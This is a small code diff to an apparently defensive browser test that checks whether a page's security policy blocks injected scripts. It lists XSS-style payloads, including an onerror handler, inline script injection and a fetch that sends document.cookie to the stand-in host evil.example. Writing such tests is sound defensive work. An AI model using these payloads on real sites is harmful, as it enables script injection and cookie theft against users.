@@ -93,7 +93,8 @@ def test_the_policy_stops_what_would_get_in(service: Service, visit: Any) -> Non
         "() => { const s = document.createElement('script'); s.append('window.broken=5');"
         " document.body.append(s); }",
         "() => { document.body.innerHTML = '<img src=x onerror=window.broken=6>'; }",
-        "() => { document.body.setAttribute('onclick', 'window.broken=7'); document.body.click(); }",
+        "() => { document.body.setAttribute('onclick', 'window.broken=7');"
+        " document.body.click(); }",
         "() => fetch('https://evil.example/?' + document.cookie)",
     ):
         page.evaluate(f"async () => {{ try {{ await ({attempt})(); }} catch (e) {{}} }}")
